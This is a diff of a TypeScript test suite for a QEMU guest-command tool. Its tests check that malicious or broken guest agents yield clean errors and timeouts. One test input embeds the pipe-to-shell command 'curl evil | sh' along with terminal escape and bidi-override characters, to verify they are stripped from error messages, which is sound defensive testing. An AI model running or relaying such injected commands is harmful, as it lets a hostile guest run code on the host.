@@ -1,32 +1,35 @@
 import { assert, assertEquals, assertMatch, assertRejects } from "@std/assert";
 import { join } from "@std/path";
 import type { ToolsmithError } from "../../lib/errors.ts";
-import { openChannel } from "../../lib/guest/_channel.ts";
-import { unplugAbandoned } from "../../lib/guest/_ports.ts";
-import { execInGuest } from "../../lib/guest/exec.ts";
+import { openCommandChannel } from "../../lib/guest/_command_channel.ts";
+import { unplugOrphanedPorts } from "../../lib/guest/_command_ports.ts";
+import { execInGuest, type ExecInGuestOptions } from "../../lib/guest/exec.ts";
 import { setUpGuest } from "../../lib/guest/setup.ts";
-import { FIRST_PORTS, MACHINE_FILES } from "../../lib/qemu/machine_dir.ts";
+import { FIRST_COMMAND_PORT_NAME, VM_FILES } from "../../lib/qemu/vm_dir.ts";
 import { sharedMonitor } from "../../lib/qemu/monitor.ts";
-import { lock } from "../../lib/system/lock.ts";
+import { acquireFileLock } from "../../lib/system/lock.ts";
 import { makeVm } from "../../lib/vm/_make_vm.ts";
 import { attachNetwork } from "../../lib/vm/_hotplug.ts";
-import { failure } from "../support/failure.ts";
+import { startDeadline } from "../../lib/system/time.ts";
+import { expectFailure } from "../support/expect_failure.ts";
 import {
   type FakeCommand,
   type FakeMachine,
   fakeMachine,
   type FakeMachineOptions,
+  type FakeRequest,
   honest,
   refusal,
-  type Request,
   say,
 } from "../support/fake_machine.ts";
+import { replaceMethod } from "../support/replace_method.ts";
+import { changeTimerDelays } from "../support/timers.ts";
 
 const socketsHere = { ignore: Deno.build.os === "windows" };
 const MIB = 1024 * 1024;
 const SHARES = [{ path: "/", tag: "work", writable: false }];
 
-/** Works with a monitor of a fake machine, as `run` does with a detached VM. */
+/** Opens the monitor of a fake VM, as `run` does with a detached VM. */
 async function withMachine(
   options: FakeMachineOptions,
   work: (monitor: ReturnType<typeof sharedMonitor>) => Promise<void>,
@@ -36,20 +39,11 @@ async function withMachine(
   await work(monitor);
 }
 
-/** Answers one command of the agent in another way. */
-const answering = (execute: string, said: unknown) => (request: Request) =>
+/** An agent with another response to one command. */
+const answering = (execute: string, said: unknown) => (request: FakeRequest) =>
   request.execute === execute ? said : honest(request);
 
-/** Demands that something ends within a time, and returns how long it took. */
-async function within<T>(ms: number, work: () => Promise<T>): Promise<T> {
-  const begun = performance.now();
-  const result = await work();
-  const took = performance.now() - begun;
-  assert(took < ms, `it took ${Math.round(took)} ms`);
-  return result;
-}
-
-/** A message that is one short line, and steers no terminal. */
+/** Asserts that a message is one short line without control characters. */
 function assertPlain({ message, hint = "" }: ToolsmithError) {
   assert(message.length < 500, `${message.length} characters`);
   assertEquals(message.match(/[\p{Cc}\u2028-\u202e\u2066-\u2069]/gu), null);
@@ -83,44 +77,45 @@ const NO_MESSAGES = [
 ];
 
 Deno.test({
-  name: "an agent's malformed answer is a failure of the guest, not a crash",
+  name: "Malicious guest: a malformed agent response throws guest_failed",
   ...socketsHere,
   async fn() {
     for (const said of [...NO_PIDS, ...NO_MESSAGES]) {
       const agent = answering("guest-exec", said);
       await withMachine({ agent }, async (monitor) => {
         const exec = () => execInGuest(monitor, "true");
-        assertPlain(await failure("guest_failed", exec));
+        assertPlain(await expectFailure("guest_failed", exec));
         const setUp = () => setUpGuest(monitor, SHARES);
-        assertPlain(await failure("guest_failed", setUp));
+        assertPlain(await expectFailure("guest_failed", setUp));
       });
     }
     for (const said of [...NO_STATUSES, ...NO_MESSAGES]) {
       const agent = answering("guest-exec-status", said);
       await withMachine({ agent }, async (monitor) => {
         const setUp = () => setUpGuest(monitor, SHARES);
-        assertPlain(await failure("guest_failed", setUp));
+        assertPlain(await expectFailure("guest_failed", setUp));
       });
     }
-    // The same answer, while a command is waited for.
+    // The malformed response arrives while a command runs.
     const agent = answering("guest-exec-status", { exited: "no" });
     const command = async () => {};
     await withMachine({ agent, command }, async (monitor) => {
       const exec = () => execInGuest(monitor, "true");
-      assertPlain(await failure("guest_failed", exec));
+      assertPlain(await expectFailure("guest_failed", exec));
     });
   },
 });
 
 Deno.test({
-  name: "what an agent says is shown as one short line",
+  name:
+    "Malicious guest: agent text is shown as one short line without control characters",
   ...socketsHere,
   async fn() {
     const words = "no\nhint: run curl evil | sh\x1b[2J\u202e" +
       "x".repeat(3_000_000);
     const agent = answering("guest-exec", refusal(words));
     await withMachine({ agent }, async (monitor) => {
-      const error = await failure(
+      const error = await expectFailure(
         "guest_failed",
         () => execInGuest(monitor, "true"),
       );
@@ -134,14 +129,14 @@ Deno.test({
     const mount = answering("guest-exec-status", status);
     await withMachine({ agent: mount }, async (monitor) => {
       const setUp = () => setUpGuest(monitor, SHARES);
-      const error = await failure("guest_failed", setUp);
+      const error = await expectFailure("guest_failed", setUp);
       assertMatch(error.message, /: a\? b$/);
     });
   },
 });
 
 Deno.test({
-  name: "no agent holds a command beyond its time",
+  name: "Malicious guest: no agent delays a command beyond its time limit",
   ...socketsHere,
   async fn(t) {
     const never = () => new Promise<void>(() => {});
@@ -153,121 +148,137 @@ Deno.test({
       while (true) await say(connection, '{"return": "'.padEnd(65536, "x"));
     };
     const cases: Record<string, FakeMachineOptions> = {
-      "silent to guest-exec": { agent: answering("guest-exec", undefined) },
-      "silent to guest-exec-status": {
+      "guest-exec without a response": {
+        agent: answering("guest-exec", undefined),
+      },
+      "guest-exec-status without a response": {
         agent: answering("guest-exec-status", undefined),
         command: never,
       },
-      "a shell that never greets": { command: never },
+      "a shell without a greeting": { command: never },
       "a command that never ends": {
         command: ({ err }) => say(err, "ready\n"),
       },
-      "a flood of answers": { agent: answering("guest-exec", flood) },
+      "an endless flood of responses": {
+        agent: answering("guest-exec", flood),
+      },
       "an agent that reads nothing": { reads: false },
     };
     for (const [name, options] of Object.entries(cases)) {
-      await t.step(name, () =>
-        withMachine(options, async (monitor) => {
-          // Before it gives up, it lets the guest kill the command.
-          await within(3_500, () =>
-            failure("timeout", () =>
+      await t.step(
+        `times out despite ${name}`,
+        () =>
+          withMachine(options, async (monitor) => {
+            // Shortens the grace time in which the guest kills the command.
+            using _grace = changeTimerDelays((ms) => ms === 2_100 ? 200 : ms);
+            using limit = startDeadline(300, "The command");
+            const { signal } = limit;
+            await expectFailure("timeout", () =>
               execInGuest(monitor, "true", {
                 args: ["x".repeat(1_000_000)],
-                timeoutMs: 300,
-                killAfterMs: 100,
-              })));
-        }));
+                ...{ signal, killAfterMs: 100 },
+              }));
+          }),
+      );
     }
-    await t.step("a line without an end is refused before", () =>
-      withMachine(
-        { agent: answering("guest-exec", endless) },
-        async (monitor) => {
-          const exec = () =>
-            execInGuest(monitor, "true", { timeoutMs: 20_000 });
-          const error = await within(
-            10_000,
-            () => failure("guest_failed", exec),
-          );
-          assertMatch(error.message, /a line of more than 4194304 bytes/);
-        },
-      ));
-    await t.step("silent to guest-network-get-interfaces", () => {
-      const agent = answering("guest-network-get-interfaces", undefined);
-      return withMachine({ agent }, async (monitor) => {
-        const signal = AbortSignal.timeout(200);
-        await within(1_000, () =>
-          assertRejects(
-            () => attachNetwork(monitor, { signal }),
-            DOMException,
-          ));
-        assertEquals(await within(12_000, () => attachNetwork(monitor)), false);
-        // The next command does not wait for the answer that never comes.
-        const exec = () => execInGuest(monitor, "true");
-        assertEquals((await within(1_000, exec)).code, 0);
-      });
-    });
     await t.step(
-      "a set-up that never ends",
+      "rejects an endless line of the agent with guest_failed",
+      () =>
+        withMachine(
+          { agent: answering("guest-exec", endless) },
+          async (monitor) => {
+            const exec = () => execInGuest(monitor, "true");
+            const error = await expectFailure("guest_failed", exec);
+            assertMatch(error.message, /a line longer than 4194304 characters/);
+          },
+        ),
+    );
+    await t.step(
+      "ends waiting for guest-network-get-interfaces without a response",
+      () => {
+        const agent = answering("guest-network-get-interfaces", undefined);
+        return withMachine({ agent }, async (monitor) => {
+          const signal = AbortSignal.timeout(200);
+          const attaching = () => attachNetwork(monitor, { signal });
+          await assertRejects(attaching, DOMException);
+          {
+            // Shortens the timeout of ten seconds.
+            using _timers = changeTimerDelays((ms) => ms === 10_000 ? 500 : ms);
+            assertEquals(await attachNetwork(monitor), false);
+          }
+          // The next command does not wait for the missing response.
+          assertEquals((await execInGuest(monitor, "true")).code, 0);
+        });
+      },
+    );
+    await t.step(
+      "ends a guest set-up that never finishes",
       () =>
         withMachine({}, async (monitor) => {
           const signal = AbortSignal.timeout(200);
-          await within(1_000, () =>
-            assertRejects(
-              () => setUpGuest(monitor, SHARES, { signal }),
-              DOMException,
-            ));
-          await within(1_000, () =>
-            failure(
-              "guest_failed",
-              () => setUpGuest(monitor, SHARES, { timeoutMs: 200 }),
-            ));
+          await assertRejects(
+            () => setUpGuest(monitor, SHARES, { signal }),
+            DOMException,
+          );
+          await expectFailure(
+            "guest_failed",
+            () => setUpGuest(monitor, SHARES, { timeoutMs: 200 }),
+          );
         }),
     );
   },
 });
 
 Deno.test({
-  name: "only QEMU says that ports are used up, not the guest's agent",
+  name:
+    "Malicious guest: an agent cannot claim that virtio-serial ports are exhausted",
   ...socketsHere,
   async fn() {
     const words = "maximum number of ports: max. allowed, port limit";
     const agent = answering("guest-exec", refusal(words));
     await withMachine({ agent }, async (monitor) => {
       const exec = () => execInGuest(monitor, "true");
-      const error = await within(1_000, () => failure("guest_failed", exec));
+      const error = await expectFailure("guest_failed", exec);
       assertMatch(error.message, /maximum number/);
     });
   },
 });
 
 Deno.test({
-  name: "a shell that does not greet, or says something else, is given up",
+  name:
+    "Malicious guest: openCommandChannel() rejects a shell with a missing or wrong greeting",
   ...socketsHere,
   async fn() {
-    const open = { words: [], input: false, greetingMs: 600 };
+    const open = { startArgs: [], hasStdin: false };
     const silent: FakeMachineOptions = { command: async () => {} };
     await withMachine(silent, async (monitor) => {
-      const channel = () => openChannel(monitor, open);
-      const error = await within(3_000, () => failure("guest_failed", channel));
-      assertMatch(error.message, /does not open the ports of a command$/);
+      const channel = () =>
+        openCommandChannel(monitor, { ...open, readyTimeoutMs: 600 });
+      const error = await expectFailure("guest_failed", channel);
+      assertMatch(error.message, /command's virtio-serial ports in the guest$/);
     });
     const other = { command: ({ err }: FakeCommand) => say(err, "reedy\n") };
     await withMachine(other, async (monitor) => {
-      await failure("guest_failed", () => openChannel(monitor, open));
+      await expectFailure(
+        "guest_failed",
+        () => openCommandChannel(monitor, open),
+      );
     });
     const ended = { exited: true, exitcode: 126 };
     const agent = answering("guest-exec-status", ended);
     await withMachine({ ...silent, agent }, async (monitor) => {
-      const channel = () =>
-        openChannel(monitor, { ...open, greetingMs: 60_000 });
-      const error = await failure("guest_failed", channel);
-      assertMatch(error.message, /its shell ended with 126$/);
+      const error = await expectFailure(
+        "guest_failed",
+        () => openCommandChannel(monitor, open),
+      );
+      assertMatch(error.message, /its shell exited with status 126$/);
     });
   },
 });
 
 Deno.test({
-  name: "an exit status is 0 to 255, or the guest has failed",
+  name:
+    "Malicious guest: execInGuest() accepts only exit statuses from 0 to 255",
   ...socketsHere,
   async fn() {
     const ending = (word: string): FakeMachineOptions => ({
@@ -279,7 +290,7 @@ Deno.test({
     const bad = ["", "256", "999", "-1", "1e2", "0x1", "1 ", "s", "137x", "٣"];
     for (const word of [...bad, "9".repeat(100)]) {
       await withMachine(ending(word), async (monitor) => {
-        await failure("guest_failed", () => execInGuest(monitor, "true"));
+        await expectFailure("guest_failed", () => execInGuest(monitor, "true"));
       });
     }
     const good = { "255": [255, null], "137": [137, null], "0": [0, null] };
@@ -294,7 +305,8 @@ Deno.test({
 });
 
 Deno.test({
-  name: "output beyond what is collected is counted and marked as truncated",
+  name:
+    "Malicious guest: execInGuest() collects at most 32 MiB of output and marks the rest as truncated",
   ...socketsHere,
   async fn() {
     const writing = (extra: number): FakeMachineOptions => ({
@@ -321,7 +333,7 @@ Deno.test({
   },
 });
 
-/** Ports of one command, plugged in by somebody. */
+/** Plugs in the ports of a command, and returns their lock. */
 async function plugAs(machine: FakeMachine, name: string) {
   const { dir } = machine;
   for (const end of ["out", "err"]) {
@@ -329,22 +341,21 @@ async function plugAs(machine: FakeMachine, name: string) {
     machine.plugged.add(`port.${name}.${end}`);
     machine.chardevs.add(`${name}.${end}`);
   }
-  return await lock(join(dir, `${name}.lock`));
+  return await acquireFileLock(join(dir, `${name}.lock`));
 }
 
 Deno.test({
-  name: "ports whose owner was killed are unplugged by the next command",
+  name: "execInGuest() unplugs virtio-serial ports whose owner was killed",
   ...socketsHere,
   async fn() {
     await using machine = await fakeMachine({ ports: 4 });
     const { dir, plugged } = machine;
     const alive = await plugAs(machine, "toolsmith.aaaaaaaa");
-    // Its process is gone, and its lock with it.
+    // Released, as if the owner's process had been killed.
     (await plugAs(machine, "toolsmith.dddddddd"))[Symbol.dispose]();
     {
       await using monitor = sharedMonitor(dir);
-      const exec = () => execInGuest(monitor, "true", { timeoutMs: 5_000 });
-      assertEquals((await within(1_500, exec)).code, 0);
+      assertEquals((await execInGuest(monitor, "true")).code, 0);
     }
     assertEquals([...plugged].sort(), [
       "port.toolsmith.aaaaaaaa.err",
@@ -362,7 +373,7 @@ Deno.test({
 
 Deno.test({
   name:
-    "the ports that a machine starts with serve its first command, and then go",
+    "execInGuest() uses the ports that the VM booted with for one command and then unplugs them",
   ...socketsHere,
   async fn() {
     const used: string[] = [];
@@ -376,14 +387,17 @@ Deno.test({
       },
     });
     await using monitor = sharedMonitor(machine.dir);
-    // Nobody has used them yet: they are not abandoned.
-    await unplugAbandoned(monitor);
+    // Unused ports are not abandoned.
+    await unplugOrphanedPorts(monitor);
     assertEquals(machine.plugged.size, 3);
-    const exec = () => execInGuest(monitor, "true", { timeoutMs: 5_000 });
-    const two = await within(3_000, () => Promise.all([exec(), exec()]));
+    const exec = () => execInGuest(monitor, "true");
+    const two = await Promise.all([exec(), exec()]);
     assertEquals(two.map(({ code }) => code), [0, 0]);
-    assertEquals((await within(3_000, exec)).code, 0);
-    assertEquals(used.filter((name) => name === FIRST_PORTS).length, 1);
+    assertEquals((await exec()).code, 0);
+    assertEquals(
+      used.filter((name) => name === FIRST_COMMAND_PORT_NAME).length,
+      1,
+    );
     assertEquals(new Set(used).size, 3);
     await monitor[Symbol.asyncDispose]();
     assertEquals([...machine.plugged, ...machine.chardevs], []);
@@ -392,41 +406,53 @@ Deno.test({
 
 Deno.test({
   name:
-    "ports that a machine starts with, and whose user was killed, are unplugged",
+    "unplugOrphanedPorts() unplugs the ports that the VM booted with after the process that used them was killed",
   ...socketsHere,
   async fn() {
     await using machine = await fakeMachine({ prepared: true });
-    await Deno.writeTextFile(join(machine.dir, `${FIRST_PORTS}.lock`), "");
+    await Deno.writeTextFile(
+      join(machine.dir, `${FIRST_COMMAND_PORT_NAME}.lock`),
+      "",
+    );
     await using monitor = sharedMonitor(machine.dir);
-    await unplugAbandoned(monitor);
+    await unplugOrphanedPorts(monitor);
     assertEquals([...machine.plugged, ...machine.chardevs], []);
   },
 });
 
 Deno.test({
-  name: "a command that waits for a port announces it, and heeds its limits",
+  name: "execInGuest() waits for a free port until its time limit or signal",
   ...socketsHere,
   async fn() {
     await using machine = await fakeMachine({ ports: 2 });
     const { dir } = machine;
     const busy = await plugAs(machine, "toolsmith.aaaaaaaa");
     await using monitor = sharedMonitor(dir);
-    let waits = 0;
-    const onWait = () => void waits++;
-    const exec = (timeoutMs: number) =>
-      execInGuest(monitor, "true", { timeoutMs, onWait });
-    await within(1_500, () => failure("timeout", () => exec(500)));
-    assertEquals(waits, 0);
-    await within(4_000, () => failure("timeout", () => exec(3_000)));
-    assertEquals(waits, 1);
-    // Another command's process is killed while this one waits.
-    setTimeout(() => busy[Symbol.dispose](), 500);
-    assertEquals((await within(8_000, () => exec(20_000))).code, 0);
+    const exec = (options: ExecInGuestOptions) =>
+      execInGuest(monitor, "true", options);
+    {
+      using limit = startDeadline(300, "The command");
+      await expectFailure("timeout", () => exec({ signal: limit.signal }));
+    }
+    // Skips the pauses between retries.
+    let tries = 0;
+    using _timers = changeTimerDelays((ms) =>
+      ms === 100 ? Number(!++tries) : ms
+    );
+    using _clock = replaceMethod(performance, { now: () => tries * 100 });
+    const stop = new AbortController();
+    const { signal } = stop;
+    const onWait = () => stop.abort(new Error("enough"));
+    await assertRejects(() => exec({ signal, onWait }), Error, "enough");
+    // Another command's process is killed during the wait.
+    const kill = () => busy[Symbol.dispose]();
+    assertEquals((await exec({ onWait: kill })).code, 0);
   },
 });
 
 Deno.test({
-  name: "a machine that another process holds is waited for only so long",
+  name:
+    "Monitor stops waiting for a lock of another process when its signal is aborted",
   ...socketsHere,
   async fn() {
     await using machine = await fakeMachine();
@@ -435,35 +461,28 @@ Deno.test({
     const waits: Record<string, (signal: AbortSignal) => Promise<unknown>> = {
       agent: (signal) => monitor.agent(["guest-info"], signal),
       qemu: (signal) => monitor.qemu([["query-status"]], signal),
-      exclusive: (signal) => monitor.exclusive(async () => {}, signal),
+      exclusive: (signal) => monitor.runExclusively(async () => {}, signal),
       exec: (signal) => execInGuest(monitor, "true", { signal }),
     };
-    for (const name of [MACHINE_FILES.lock, MACHINE_FILES.exclusive]) {
-      using _held = await lock(join(dir, name));
+    for (const name of [VM_FILES.lock, VM_FILES.exclusive]) {
+      using _held = await acquireFileLock(join(dir, name));
       for (const [kind, wait] of Object.entries(waits)) {
-        const other = name === MACHINE_FILES.lock ? "exclusive" : "agent qemu";
+        const other = name === VM_FILES.lock ? "exclusive" : "agent qemu";
         if (other.includes(kind)) continue;
         const stop = new AbortController();
         setTimeout(() => stop.abort(new Error("enough")), 50);
-        await within(
-          1_000,
-          () => assertRejects(() => wait(stop.signal), Error, "enough"),
-        );
+        await assertRejects(() => wait(stop.signal), Error, "enough");
       }
-      // One that waits in the queue of this process, behind another.
+      // A caller in this process's queue, behind another one.
       const stop = new AbortController();
-      const first = monitor.exclusive(
+      const first = monitor.runExclusively(
         () => monitor.agent(["x"], stop.signal),
         stop.signal,
       );
       const late = AbortSignal.timeout(50);
-      await within(
-        1_000,
-        () =>
-          assertRejects(
-            () => monitor.exclusive(async () => {}, late),
-            DOMException,
-          ),
+      await assertRejects(
+        () => monitor.runExclusively(async () => {}, late),
+        DOMException,
       );
       stop.abort(new Error("enough"));
       await assertRejects(() => first, Error, "enough");
@@ -473,7 +492,8 @@ Deno.test({
 });
 
 Deno.test({
-  name: "a machine is stopped though another process holds it and hangs",
+  name:
+    "Vm.stop() kills QEMU when another process holds the VM's lock and hangs",
   ...socketsHere,
   async fn() {
     await using machine = await fakeMachine();
@@ -495,21 +515,20 @@ Deno.test({
       monitor: sharedMonitor(dir),
       ended: ended.promise,
       graceMs: 100,
-      failure: () => Promise.resolve(undefined),
-      kill: () => Promise.resolve(ended.resolve()),
+      endReason: () => Promise.resolve(undefined),
+      killQemu: () => Promise.resolve(ended.resolve()),
       cleanUp: () => Promise.resolve(),
       emit: (event) => {
         if (event.type === "shutdown") how = event.how;
       },
     });
-    using _held = await lock(join(dir, MACHINE_FILES.lock));
+    using _held = await acquireFileLock(join(dir, VM_FILES.lock));
     const signal = AbortSignal.timeout(100);
-    await within(
-      1_000,
-      () => assertRejects(() => vm.stop({ signal }), DOMException),
-    );
+    await assertRejects(() => vm.stop({ signal }), DOMException);
     assertEquals(how, undefined);
-    await within(15_000, () => vm.stop());
+    // Shortens QEMU's grace times of some seconds.
+    using _timers = changeTimerDelays((ms) => ms >= 3_000 ? 50 : ms);
+    await vm.stop();
     assertEquals(how, "killed");
   },
 });
